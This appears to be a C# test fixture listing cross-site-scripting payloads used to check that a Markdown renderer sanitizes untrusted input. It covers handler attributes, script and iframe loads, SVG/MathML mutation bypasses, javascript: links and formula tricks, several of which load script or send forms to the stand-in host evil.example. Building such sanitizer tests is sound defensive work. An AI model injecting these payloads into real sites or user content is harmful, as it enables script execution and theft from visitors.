namespace PrefEval.Web.Tests;

/// <summary>
/// What has been tried against pages that draw a stranger's Markdown, one shape each. What fires sets window.hit; what loads asks evil.example.
/// </summary>
internal static class Attacks
{
    public static readonly string[] All =
    [
        // Elements with handlers
        "<img src=x onerror=\"window.hit=1\">", "<svg onload=\"window.hit=1\"></svg>", "<svg/onload=window.hit=1>", "<body onload=window.hit=1>", "<input autofocus onfocus=window.hit=1>",
        "<details open ontoggle=window.hit=1><summary>x</summary></details>", "<video><source onerror=window.hit=1></video>", "<audio src=x onerror=window.hit=1>",
        "<marquee onstart=window.hit=1>x</marquee>", "<select autofocus onfocus=window.hit=1>", "<textarea autofocus onfocus=window.hit=1>x</textarea>", "<b onmouseover=window.hit=1 style=\"position:fixed;inset:0\">x</b>",
        "<div onpointerrawupdate=window.hit=1 style=position:fixed;inset:0>x</div>", "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"window.hit=1\"></xss>", "<IMG \"\"\"><SCRIPT>window.hit=1</SCRIPT>\">",
        // Elements that run or load
        "<script>window.hit=1</script>", "<script src=https://evil.example/a.js></script>", "<scr<script>ipt>window.hit=1</scr</script>ipt>", "<script\u0000>window.hit=1</script>".Replace("\u0000", "\u2060", StringComparison.Ordinal),
        "<iframe src=\"javascript:parent.hit=1\"></iframe>", "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>", "<iframe src=https://evil.example/></iframe>", "<object data=\"data:text/html,<script>parent.hit=1</script>\"></object>",
        "<embed src=https://evil.example/e.swf>", "<link rel=stylesheet href=https://evil.example/s.css>", "<link rel=prefetch href=https://evil.example/p>", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<base href=https://evil.example/>", "<form action=https://evil.example/><button autofocus>send</button></form>", "<form><button formaction=javascript:window.hit=1>x</button></form>", "<template><script>window.hit=1</script></template>",
        "<style>@import 'https://evil.example/i.css';body{display:none}</style>", "<div style=\"background:url(https://evil.example/b.png)\">x</div>", "<img src=https://evil.example/p.png srcset=\"https://evil.example/q.png 2x\">", "<picture><source srcset=https://evil.example/r.png></picture>",
        "<portal src=https://evil.example/></portal>", "<input type=image src=https://evil.example/i.png>", "<table background=https://evil.example/t.png><tr><td>x</td></tr></table>", "<video poster=https://evil.example/v.png></video>",
        // SVG, MathML and mutation
        "<svg><script>window.hit=1</script></svg>", "<svg><a xlink:href=\"javascript:window.hit=1\"><text x=0 y=20>x</text></a></svg>", "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=window.hit=1>#x\"></use></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe></foreignObject></svg>", "<svg><style><img src=x onerror=window.hit=1></style></svg>", "<math href=\"javascript:window.hit=1\">x</math>", "<math><maction actiontype=\"statusline#https://evil.example/\" xlink:href=\"javascript:window.hit=1\">x</maction></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hit=1&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>", "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=window.hit=1>\">",
        "<!--><img src=x onerror=window.hit=1>-->", "<![CDATA[<img src=x onerror=window.hit=1>]]>", "<a id=location href=javascript:window.hit=1>x</a><a id=hit name=cookie>y</a>", "<xmp><img title=\"</xmp><img src=x onerror=window.hit=1>\"></xmp>",
        // Markdown
        "[x](javascript:window.hit=1)", "[x](JaVaScRiPt:window.hit=1)", "[x](java&#115;cript:window.hit=1)", "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.hit=1)", "[x](vbscript:window.hit=1)", "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
        "[x](https://evil.example/away \"onmouseover=window.hit=1\")", "![x](x\"onerror=\"window.hit=1)", "![x](https://evil.example/m.png)", "![x][y]\n\n[y]: https://evil.example/ref.png", "<javascript:window.hit=1>", "<https://evil.example/auto>", "[x]: javascript:window.hit=1\n\n[x]",
        "```<img/src=x/onerror=window.hit=1>\nx\n```", "```html\n<img src=x onerror=window.hit=1>\n</code></pre><script>window.hit=1</script>\n```", "`<img src=x onerror=window.hit=1>`", "| <img src=x onerror=window.hit=1> |\n|:-:|\n| <svg onload=window.hit=1> |", "# <img src=x onerror=window.hit=1>",
        // Formulas
        "$\\href{javascript:window.hit=1}{x}$", "$\\url{javascript:window.hit=1}$", "$\\includegraphics{https://evil.example/k.png}$", "$\\htmlData{x=1}{y}$", "$\\htmlClass{bar vote}{y}$", "$\\htmlStyle{position:fixed;inset:0}{y}$", "$\\htmlId{root}{y}$",
        "$\\text{<img src=x onerror=window.hit=1>}$", "$\\text{\" style=\"position:fixed;inset:0\" onload=\"window.hit=1}$", "$$\\def\\x{\\x\\x}\\x$$", "$\\rule{9999em}{9999em}$", "$\\kern{-9999em}x$", "$\\color{red;background:url(https://evil.example/c.png)}x$", "$\\unicode{<img src=x onerror=window.hit=1>}$",
    ];
}
